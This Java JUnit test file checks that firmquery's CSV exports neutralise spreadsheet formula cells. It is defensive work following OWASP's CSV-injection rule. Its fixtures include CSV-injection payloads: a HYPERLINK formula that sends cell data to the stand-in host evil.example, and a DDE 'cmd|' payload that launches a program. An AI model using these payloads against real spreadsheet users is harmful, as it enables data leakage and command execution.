package dev.firmquery.export;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.io.IOException;
import java.io.Reader;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** {@code output.csv_formula_guard}: OWASP's CSV-injection rule, on every CSV firmquery writes. */
class FormulaGuardTest {
    private static final List<Column> COLUMNS = List.of(Rows.column("id", ColumnKind.INTEGER),
            Rows.column("note", ColumnKind.TEXT), Rows.column("amount", ColumnKind.DECIMAL),
            Rows.column("on", ColumnKind.DATE));
    /** Cells a spreadsheet would run, and harmless ones around them. */
    private static final List<Object[]> ROWS = List.of(
            Rows.row(1L, "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", new BigDecimal("-5.00"), LocalDate.of(2024, 1, 2)),
            Rows.row(-2L, "+1+1", null, null),
            Rows.row(3L, "-2+3+cmd|' /C calc'!A0", null, null),
            Rows.row(4L, "@SUM(1+1)", null, null),
            Rows.row(5L, "\tstarts with a tab", null, null),
            Rows.row(6L, "\rstarts with CR", null, null),
            Rows.row(7L, "a = b, harmless", null, null),
            Rows.row(8L, "", null, null),
            Rows.row(9L, null, null, null));

    @TempDir
    Path dir;

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "+1", "-1", "@A1", "\tx", "\rx", "=", "-"})
    void cellsStartingLikeAFormulaAreDangerous(String text) {
        assertTrue(FormulaGuard.isDangerous(text));
        assertEquals("'" + text, FormulaGuard.neutralise(text));
    }

    @ParameterizedTest
    @ValueSource(strings = {"", " =1+1", "a=1", "'=1", "\n=1", "1-2", "F-1", "ACME"})
    void otherCellsAreLeftAlone(String text) {
        assertFalse(FormulaGuard.isDangerous(text));
        assertEquals(text, FormulaGuard.neutralise(text));
    }

    @Test
    void nullStaysNull() {
        assertNull(FormulaGuard.neutralise(null));
    }

    @Test
    void withTheGuardTextCellsAndLabelsGetAQuoteButRenderedValuesStay() throws IOException {
        List<Column> columns = new ArrayList<>(COLUMNS);
        columns.add(Rows.column("=label", ColumnKind.TEXT));
        List<Object[]> rows = ROWS.stream().map(r -> Rows.row(r[0], r[1], r[2], r[3], "@x")).toList();

        List<List<String>> csv = read(writeCsv("guarded.csv", columns, rows, true));

        assertEquals(List.of("id", "note", "amount", "on", "'=label"), csv.get(0));
        assertEquals(List.of("1", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "-5.00", "2024-01-02", "'@x"),
                csv.get(1));
        assertEquals("-2", csv.get(2).get(0), "a negative number is a number, not a formula");
        assertEquals("'+1+1", csv.get(2).get(1));
        assertEquals("'-2+3+cmd|' /C calc'!A0", csv.get(3).get(1));
        assertEquals("'@SUM(1+1)", csv.get(4).get(1));
        assertEquals("'\tstarts with a tab", csv.get(5).get(1));
        assertEquals("'\rstarts with CR", csv.get(6).get(1));
        assertEquals("a = b, harmless", csv.get(7).get(1));
        assertEquals("", csv.get(8).get(1));
        assertEquals("", csv.get(9).get(1));
    }

    @Test
    void withoutTheGuardTheCsvIsByteFaithful() throws IOException {
        List<List<String>> csv = read(writeCsv("plain.csv", COLUMNS, ROWS, false));
        for (int i = 0; i < ROWS.size(); i++) {
            Object note = ROWS.get(i)[1];
            assertEquals(note == null ? "" : note, csv.get(i + 1).get(1));
        }
    }

    @Test
    void recordsEncodedByAWorkersEncoderAreTheSameBytesAsTheWritersOwn() throws IOException {
        Path direct = writeCsv("direct.csv", COLUMNS, ROWS, true);

        // A worker's encoder with the run's guard, as run.store spools its chunks' records.
        CsvRecords worker = new CsvRecords(COLUMNS, true);
        StringBuilder encoded = new StringBuilder();
        for (Object[] r : ROWS) {
            worker.append(r, encoded);
        }
        byte[] bytes = encoded.toString().getBytes(StandardCharsets.UTF_8);
        Path assembled = dir.resolve("assembled.csv");
        try (CsvResultWriter writer = new CsvResultWriter(assembled, false, OutputFile.OWNER_READ_WRITE, true)) {
            writer.begin(COLUMNS);
            writer.appendEncoded(out -> out.write(bytes), ROWS.size());
            writer.commit(List.of());
        }

        assertArrayEquals(Files.readAllBytes(direct), Files.readAllBytes(assembled));
    }

    @Test
    void theIdListsAreGuardedToo() throws IOException {
        Path missing = dir.resolve("m.csv");
        try (IdListWriter w = IdListWriter.missing(missing, "code", OutputFile.OWNER_READ_WRITE, true)) {
            w.id("-A1");
            w.id("F-1");
            w.commit();
        }
        assertEquals(List.of(List.of("code"), List.of("'-A1"), List.of("F-1")), read(missing));

        Path failed = dir.resolve("f.csv");
        try (IdListWriter w = IdListWriter.failed(failed, "code", OutputFile.OWNER_READ_WRITE, true)) {
            w.failed("=X", 3, "=cmd");
            w.commit();
        }
        assertEquals(List.of("'=X", "3", "'=cmd"), read(failed).get(1));
    }

    private Path writeCsv(String name, List<Column> columns, List<Object[]> rows, boolean guard) throws IOException {
        try (CsvResultWriter writer = new CsvResultWriter(dir.resolve(name), false, OutputFile.OWNER_READ_WRITE, guard)) {
            writer.begin(columns);
            for (Object[] r : rows) {
                writer.row(r);
            }
            return writer.commit(List.of());
        }
    }

    private static List<List<String>> read(Path file) throws IOException {
        try (Reader r = Files.newBufferedReader(file, StandardCharsets.UTF_8);
             CSVParser p = CSVParser.parse(r, CSVFormat.RFC4180)) {
            List<List<String>> out = new ArrayList<>();
            for (CSVRecord rec : p) {
                out.add(rec.toList());
            }
            return out;
        }
    }
}
